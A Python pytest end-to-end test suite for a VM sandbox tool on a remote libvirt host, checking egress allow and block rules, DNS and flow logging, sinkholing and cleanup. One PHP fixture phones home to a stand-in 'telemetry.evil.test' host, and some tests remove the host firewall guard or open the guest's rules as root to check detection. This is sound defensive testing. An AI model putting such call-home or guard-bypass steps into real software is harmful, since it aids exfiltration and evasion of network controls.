"""A sandbox on a remote libvirt host (issue 17): the lab's second host (sandbox_lab/remote.py),
libvirtd and sshd in a namespace of their own that the client, in the lab namespace, reaches over
SSH only, with no route to the guests' network. up, run, logs with PHP lines and DNS names, the
policy in the guest and in the host's filter and guard, destroy with nothing left on the host."""

from __future__ import annotations

import json
import socket
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest

from orchestrator import names, paths
from orchestrator.egress import remoterelay, remotesinkhole, wildcards
from sandbox_lab import accept_log
from sandbox_lab.dns import DNS_SERVER
from sandbox_lab.remote import LINK_LAB, RemoteHost, _pids_in, remote_down, remote_up
from tests.lab_fixture import LabSession
from tests.netns import inside

from . import test_e2e_wildcards as wild
from .e2e_support import Cli, wait_removed
from .inet_capture import InetCapture
from .test_e2e_learn import one_shot_name

pytestmark = [pytest.mark.vm, pytest.mark.root]

ALLOWED, BLOCKED = "203.0.113.7", "198.51.100.9"
# Sent on the allowed connection: its request line and Host, read on the host side (issue 16).
REQUEST = "GET /remote/ping?id=17 HTTP/1.0\\r\\nHost: www.inet.test\\r\\n\\r\\n"
SENT = "GET www.inet.test /remote/ping?id=17"
SCRIPT = f"""<?php
$a = @fsockopen("{ALLOWED}", 80, $errno, $errstr, 5); if ($a) fwrite($a, "{REQUEST}");
echo $a ? "allowed ok\\n" : "allowed failed $errno\\n";
$b = @fsockopen("{BLOCKED}", 80, $errno, $errstr, 5);
echo $b ? "blocked ok\\n" : "blocked failed $errno\\n";
echo gethostbyname("www.inet.test"), "\\n";
exit(3);
"""


@pytest.fixture(scope="module")
def remote(lab_session: LabSession) -> Iterator[RemoteHost]:
    host = remote_up(lab_session.lab.netns, lab_session.lab.dir)
    yield host
    remote_down(lab_session.lab.dir)


def on_host(remote: RemoteHost, *argv: str) -> str:
    return subprocess.run(
        remote.enter(list(argv)), check=True, capture_output=True, text=True, timeout=60
    ).stdout


def client_of(remote: RemoteHost, monkeypatch: pytest.MonkeyPatch) -> None:
    """The client's ssh config and known_hosts for the host (HOME). The images stay where they
    are: XDG_DATA_HOME defaults to a path under HOME, so it is pinned first."""
    monkeypatch.setenv("XDG_DATA_HOME", str(paths.Dirs.from_env().data.parent))
    monkeypatch.setenv("HOME", str(remote.home))


def virsh(remote: RemoteHost, *args: str) -> str:
    return on_host(remote, "virsh", "-c", "qemu:///system", *args)


def tcpdumps_on(remote: RemoteHost) -> list[int]:
    """The tcpdumps running in the remote host's network namespace."""
    found = []
    for pid in _pids_in(remote.netns):
        try:
            if Path(f"/proc/{pid}/comm").read_text().strip() == "tcpdump":
                found.append(pid)
        except OSError:
            continue
    return found


def test_a_sandbox_on_a_remote_host(
    monkeypatch: pytest.MonkeyPatch, remote: RemoteHost, cli: Cli, tmp_path: Path
) -> None:
    client_of(remote, monkeypatch)
    monkeypatch.setenv("SANDBOX_CONNECT", remote.uri)
    start = len(accept_log(cli.lab))

    cli.ok("up", "--name", "rem", "--allow", ALLOWED, "--pcap")
    state = json.loads((cli.sandbox_dir("rem") / "state.json").read_text())
    assert state["uri"] == remote.uri
    network, domain = state["network"], state["domain"]
    # The host-side records run on the host, in its network namespace (where the tap is), and
    # write into a directory of the host's own.
    records_dir = remote.private("/var/lib/libvirt") / "sandbox-records" / "rem"
    assert state["remote_dir"] == "/var/lib/libvirt/sandbox-records/rem"
    assert sorted(tcpdumps_on(remote)) == sorted(
        [state["remote_flows_pid"], state["remote_pcap_pid"]]
    )
    assert (records_dir / "host-flows.pcap0").exists() and (records_dir / "capture.pcap0").exists()
    assert not state.get("flows_pid") and not state.get("pcap_pid")
    # The guest runs on the host, not here, and the client has no way to it but the host.
    assert domain in virsh(remote, "list", "--name")
    with inside(cli.lab.netns), pytest.raises(OSError):
        socket.create_connection((state["ip"], 22), timeout=3).close()

    script = tmp_path / "remote.php"
    script.write_text(SCRIPT)
    ran = cli.run("run", "--name", "rem", str(script))
    assert ran.returncode == 3, ran.stderr
    assert ran.stdout.splitlines() == ["allowed ok", "blocked failed 111", "www.inet.test"]
    assert any(e["server"] == ALLOWED and e["port"] == 80 for e in accept_log(cli.lab)[start:])

    def complete(rows: list[dict[str, object]]) -> bool:
        verdicts = {r.get("verdict") for r in rows} >= {"allowed", "blocked", "dns"}
        return verdicts and any(r.get("http") for r in rows)

    rows = cli.records_when("rem", complete, "the allowed, blocked and DNS rows, and the request")
    # The request line the guest sent on the allowed connection, from the host's flow record
    # (brought back over SFTP), as locally.
    sent = [(r["verdict"], r["dst"], r["dport"], r["http"]) for r in rows if r.get("http")]
    assert sent == [("allowed", ALLOWED, 80, SENT)], sent
    # `logs --host`: the host's record of the guest's flows, read from the copies.
    flows = [
        json.loads(line)
        for line in cli.ok("logs", "--name", "rem", "--host", "--json").stdout.splitlines()
    ]
    dests = {(f["proto"], f["src"], f["dst"], f["dport"]) for f in flows}
    assert ("tcp", state["ip"], ALLOWED, 80) in dests, flows
    # The blocked attempt never left the guest (its own firewall refused it).
    assert not any(f["dst"] == BLOCKED for f in flows), flows
    lines = {
        (r["verdict"], r.get("dst")): r["stack"][0]["line"]
        for r in rows
        if r.get("stack") and r["verdict"] in ("allowed", "blocked")
    }
    assert lines == {("allowed", ALLOWED): 2, ("blocked", BLOCKED): 4}
    # The host's DNS log, read over SFTP: the name the script asked for, on its line.
    asked = [r for r in rows if r["verdict"] == "dns" and r.get("dns_name") == "www.inet.test"]
    assert asked and all(r["stack"][0]["line"] == 6 for r in asked if r.get("stack"))

    # Both layers: the guest's rules, and on the host the nwfilter and the input guard.
    shown = cli.ok("policy", "show", "--name", "rem").stdout
    assert ALLOWED in shown
    assert f"sandbox-{'rem'}" in virsh(remote, "nwfilter-list")
    bridge = virsh(remote, "net-info", network).split("Bridge:")[1].split()[0]
    assert f"sandbox_guard_{bridge}" in on_host(remote, "nft", "list", "tables")
    # `policy show` checks the guard on the host too: removed there, it says so.
    on_host(remote, "nft", "delete", "table", "inet", f"sandbox_guard_{bridge}")
    missing = cli.run("policy", "show", "--name", "rem")
    assert "input guard" in missing.stdout + missing.stderr, missing

    destroyed = cli.ok("destroy", "--name", "rem")
    # The last records from the host's copy (read over SFTP), not over SSH from the guest.
    assert "from the host's copy" in destroyed.stdout + destroyed.stderr, destroyed
    wait_removed("rem", cli)
    assert domain not in virsh(remote, "list", "--all", "--name")
    assert network not in virsh(remote, "net-list", "--all", "--name")
    assert "sandbox-rem" not in virsh(remote, "vol-list", "sandbox")
    assert "sandbox-rem" not in virsh(remote, "nwfilter-list")
    assert "sandbox_guard_" not in on_host(remote, "nft", "list", "tables")
    dnsmasq = remote.private("/var/lib/libvirt") / "dnsmasq"
    assert not list(dnsmasq.glob(f"{network}.queries.log*"))
    # Nothing of the host-side records is left there: no tcpdump, no directory.
    assert tcpdumps_on(remote) == []
    assert not records_dir.exists()
    # The logs stay with the client, the packet capture and the flow record with them.
    logs = cli.sandbox_dir("rem") / "logs"
    assert logs.is_dir()
    packets = subprocess.run(
        ["tcpdump", "-r", str(logs / "capture.pcap0"), "-nn"],
        capture_output=True,
        text=True,
        timeout=60,
    ).stdout
    assert f"{state['ip']}." in packets and f"> {ALLOWED}.80:" in packets, packets
    assert "www.inet.test" in packets  # the DNS query went through the capture too
    kept = cli.ok("logs", "--name", "rem", "--host", "--json").stdout.splitlines()
    assert any(json.loads(line)["dst"] == ALLOWED for line in kept), kept


SINKHOLED = """<?php
$h = @file_get_contents('http://telemetry.evil.test/collect?id=17');
echo gethostbyname('telemetry.evil.test'), "\\n";
"""


def could_be_the_scripts(packet: str) -> bool:
    """A packet (tcpdump -n line) in the fake internet that the sinkholed script could have
    caused: its call (port 80) or a lookup forwarded upstream (DNS). Not every packet there: in
    the shared lab, an earlier sandbox's SSH session ending after its network was removed sends
    its FIN (a gateway to its guest's port 22) out by the default route, into the fake
    internet (seen once, while this test ran)."""
    return any(port in packet for port in (".80:", ".80 ", ".53:", ".53 "))


def programs_on(remote: RemoteHost, program: str, *args: str) -> list[int]:
    """The processes in the remote host's network namespace running a sandbox's copy of
    `program` (a file name of ours there) with every one of `args`."""
    found = []
    for pid in _pids_in(remote.netns):
        try:
            argv = Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")
        except OSError:
            continue
        named = any(a.endswith(f"/{program}".encode()) for a in argv)
        if named and all(arg.encode() in argv for arg in args):
            found.append(pid)
    return found


def sinkholes_on(remote: RemoteHost) -> list[int]:
    return programs_on(remote, remotesinkhole.PROGRAM)


def test_sinkhole_mode_on_a_remote_host(
    monkeypatch: pytest.MonkeyPatch, remote: RemoteHost, cli: Cli, tmp_path: Path
) -> None:
    """`up --sinkhole` on the remote host: the sinkhole runs there (stdlib python3, as nobody),
    a name PHP resolves and calls over HTTP is sinkholed with its request and name in the logs,
    nothing reaches the fake internet, and destroy leaves no process or directory there."""
    client_of(remote, monkeypatch)
    monkeypatch.setenv("SANDBOX_CONNECT", remote.uri)
    cli.ok("up", "--name", "remsink", "--sinkhole")
    state = json.loads((cli.sandbox_dir("remsink") / "state.json").read_text())
    assert state["uri"] == remote.uri and not state.get("sinkhole_pid")
    pid = state["remote_sinkhole_pid"]
    assert sinkholes_on(remote) == [pid]
    assert "Uid:\t65534" in Path(f"/proc/{pid}/status").read_text()  # gave up root there
    records_dir = remote.private("/var/lib/libvirt") / "sandbox-records" / "remsink"
    assert (records_dir / "sinkhole.py").is_file()
    gateway = json.loads((cli.sandbox_dir("remsink") / "logs" / "network.json").read_text())
    gateway = gateway["resolver"][0]

    script = tmp_path / "phone_home.php"
    script.write_text(SINKHOLED)
    start = len(accept_log(cli.lab))
    with InetCapture(cli.lab, tmp_path / "inet.pcap") as capture:
        ran = cli.ok("run", "--name", "remsink", str(script))
    assert ran.stdout.splitlines() == [gateway], ran.stdout + ran.stderr
    assert capture.packets(could_be_the_scripts) == [], capture.packets()
    assert accept_log(cli.lab)[start:] == []
    rows = cli.records_when(
        "remsink",
        lambda rs: any(r["verdict"] == "sinkholed" and r.get("http") for r in rs),
        "the sinkholed request",
    )
    [sunk] = [r for r in rows if r["verdict"] == "sinkholed" and r.get("http")]
    assert sunk["http"] == "GET telemetry.evil.test /collect?id=17", sunk
    assert (sunk["dns_name"], sunk["dst"], sunk["dport"]) == ("telemetry.evil.test", gateway, 80)
    assert sunk["stack"][0]["line"] == 2, sunk

    cli.ok("destroy", "--name", "remsink")
    wait_removed("remsink", cli)
    assert sinkholes_on(remote) == []
    assert not records_dir.exists()
    assert "sandbox_guard_" not in on_host(remote, "nft", "list", "tables")
    # Its records stay with the client's logs, in the local sinkhole's format.
    kept = (cli.sandbox_dir("remsink") / "logs" / "sinkhole.jsonl").read_text().splitlines()
    assert any(json.loads(line)["http"] == sunk["http"] for line in kept), kept


def test_a_one_shot_run_in_sinkhole_mode_on_a_remote_host(
    monkeypatch: pytest.MonkeyPatch, remote: RemoteHost, cli: Cli, tmp_path: Path
) -> None:
    """`run --rm --sinkhole` goes through the same `up` and `destroy`: the request is in the
    logs kept after it, and nothing of it is left on the host."""
    client_of(remote, monkeypatch)
    monkeypatch.setenv("SANDBOX_CONNECT", remote.uri)
    script = tmp_path / "phone_home.php"
    script.write_text(SINKHOLED)
    ran = cli.ok("run", "--rm", "--sinkhole", str(script))
    name = one_shot_name(ran.stderr)
    rows = cli.records_when(
        name,
        lambda rs: any(r["verdict"] == "sinkholed" and r.get("http") for r in rs),
        "the sinkholed request",
    )
    sunk = [(r["dns_name"], r["http"]) for r in rows if r["verdict"] == "sinkholed"]
    assert sunk == [("telemetry.evil.test", "GET telemetry.evil.test /collect?id=17")], rows
    wait_removed(name, cli)
    assert sinkholes_on(remote) == []
    assert not (remote.private("/var/lib/libvirt") / "sandbox-records" / name).exists()


def test_placement_over_two_hosts_and_one_that_is_down(
    monkeypatch: pytest.MonkeyPatch, remote: RemoteHost, cli: Cli
) -> None:
    """`hosts:` lists the lab's libvirtd, the remote host and a host nobody answers for: `up`
    places the sandbox on one of the two that answer (the one with more free memory, as libvirt
    reports it), warns about the third, and list, status and destroy find it wherever it is."""
    client_of(remote, monkeypatch)
    monkeypatch.delenv("SANDBOX_CONNECT", raising=False)
    # The lab's own end of the link to the remote host: no sshd there, refused at once.
    down = remote.uri.replace(remote.address, str(LINK_LAB.ip))
    hosts = ["qemu:///system", remote.uri, down]
    cli.config.write_text("boot_timeout: 600\nhosts:\n" + "".join(f"  - '{h}'\n" for h in hosts))

    up = cli.ok("up", "--name", "placed", "--allow", ALLOWED)
    assert str(LINK_LAB.ip) in up.stderr  # the warning: that host did not answer
    state = json.loads((cli.sandbox_dir("placed") / "state.json").read_text())
    assert state["uri"] in hosts[:2]
    listed = cli.ok("list", "--json").stdout
    rows = json.loads(listed)
    assert any(r.get("name") == "placed" and r.get("host") == state["uri"] for r in rows), listed
    assert any(r.get("status") == "host down" and r.get("host") == down for r in rows), listed
    assert cli.ok("exec", "--name", "placed", "--", "hostname").stdout.strip() == "sandbox-placed"
    cli.ok("destroy", "--name", "placed")
    wait_removed("placed", cli)
    assert state["domain"] not in virsh(remote, "list", "--all", "--name")


def test_a_failed_up_stops_the_records_on_the_remote_host(
    monkeypatch: pytest.MonkeyPatch, remote: RemoteHost, cli: Cli
) -> None:
    """An `up` that fails after the host-side records and the sinkhole started (here: the
    guest cannot get its lease within a boot timeout of 2 s) rolls them back on the host too."""
    client_of(remote, monkeypatch)
    monkeypatch.setenv("SANDBOX_CONNECT", remote.uri)
    cli.config.write_text("boot_timeout: 2\n")
    failed = cli.run("up", "--name", "remfail", "--pcap", "--sinkhole")
    assert failed.returncode != 0
    assert "recording the guest's flows" in failed.stderr, failed.stderr  # they had started
    assert "starting the sinkhole" in failed.stderr, failed.stderr
    assert tcpdumps_on(remote) == []
    assert sinkholes_on(remote) == []
    assert not (remote.private("/var/lib/libvirt") / "sandbox-records" / "remfail").exists()
    assert "sandbox-remfail" not in virsh(remote, "list", "--all", "--name")


# The remote lab host's link has no IPv6 route out (the local lab's has): the script asks for
# the A record alone (gethostbyname), so the address it connects to is one that host can reach.
WILD_CALLS = """<?php
function connect($host, $port) {
    $c = @fsockopen($host, $port, $errno, $errstr, 5);
    if ($c) { fclose($c); return "ok"; }
    return "failed ($errno)";
}
$a = gethostbyname('a.cdn.inet.test');
echo "a:80 $a ", connect($a, 80), "\\n";
echo "a:443 ", connect($a, 443), "\\n";
echo "apex ", gethostbyname('cdn.inet.test'), "\\n";
echo "api ", gethostbyname('api.inet.test'), "\\n";
"""


def relays_on(remote: RemoteHost) -> list[int]:
    """The wildcard relays in their serving mode (not an `attach` of the client's)."""
    return programs_on(remote, remoterelay.PROGRAM, "serve")


def test_wildcards_on_a_remote_host(
    monkeypatch: pytest.MonkeyPatch, remote: RemoteHost, cli: Cli, tmp_path: Path
) -> None:
    """`--allow '*.cdn.inet.test:80'` on the remote host: the network's dnsmasq there sends the
    domain to the relay beside it, the resolver here (attached over SSH) allows each answer's
    addresses in the guest (through the host) and in the host's guard (nft over SSH) before the
    guest reads it. Then the host layer alone (root opens the guest's rules), and destroy
    leaves no relay, directory, guard or resolver."""
    client_of(remote, monkeypatch)
    monkeypatch.setenv("SANDBOX_CONNECT", remote.uri)
    cli.config.write_text(cli.config.read_text() + f"network:\n  resolvers: [{DNS_SERVER}]\n")
    calls, host_layer = tmp_path / "calls.php", tmp_path / "host_layer.php"
    calls.write_text(WILD_CALLS)
    host_layer.write_text(wild.HOST_LAYER)
    name = "remwild"
    cli.ok("up", "--name", name, "--allow", wild.WILDCARD)
    state = json.loads((cli.sandbox_dir(name) / "state.json").read_text())
    resolver = state["wildcard_pid"]
    records_dir = remote.private("/var/lib/libvirt") / "sandbox-records" / name
    table = f"sandbox_guard_{names.bridge(name)}"

    def wild4() -> str:
        return on_host(remote, "nft", "list", "set", "inet", table, "wild4")

    try:
        assert wildcards.running(resolver)  # here, on the client
        [relay] = relays_on(remote)
        assert "Uid:\t65534" in Path(f"/proc/{relay}/status").read_text()  # gave up root there
        assert "dnsmasq" not in wild4() and "203.0.113.7" not in wild4()
        start = len(accept_log(cli.lab))

        ran = cli.ok("run", "--name", name, str(calls))
        assert ran.stdout.splitlines() == [
            "a:80 203.0.113.7 ok",
            "a:443 failed (111)",
            "apex cdn.inet.test",
            "api api.inet.test",
        ], ran.stdout + ran.stderr
        guest = cli.ok("exec", "--name", name, "iptables-save", "-t", "filter").stdout
        assert "-A SBX-WILD -d 203.0.113.7/32 -p tcp -m tcp --dport 80 -j SBX-ALLOW" in guest
        assert wild.B not in guest
        assert "203.0.113.7 . tcp . 80" in wild4() and wild.B not in wild4()
        records = cli.records_when(
            name,
            lambda rs: (
                any(r["verdict"] == "allowed" and r["dport"] == 80 for r in rs)
                and any(r["verdict"] == "blocked" for r in rs)
            ),
            "the allowed and the blocked connect",
        )
        allowed = [r for r in records if r["verdict"] == "allowed" and r["dport"] == 80]
        assert allowed and allowed[0].get("dns_name") == "a.cdn.inet.test", allowed
        assert [r for r in records if r["verdict"] == "tamper"] == [], records
        shown = cli.ok("policy", "show", "--name", name).stdout
        assert "handed out 203.0.113.7 tcp/80" in shown and "not running" not in shown, shown

        # The host layer alone: the remote host's guard.
        opened = cli.ok("run", "--name", name, "--root", str(host_layer))
        assert opened.stdout.splitlines() == [
            "b before failed (113)",
            f"b name {wild.B}",
            "b after ok",
        ], opened.stdout + opened.stderr
        reached = [e["server"] for e in accept_log(cli.lab)[start:] if e["port"] == 80]
        assert wild.B in reached and "203.0.113.7" in reached, reached
    finally:
        cli.ok("destroy", "--name", name, timeout=300)
    wait_removed(name, cli)
    assert relays_on(remote) == []
    assert not records_dir.exists()
    assert "sandbox_guard_" not in on_host(remote, "nft", "list", "tables")
    assert not wildcards.running(resolver)
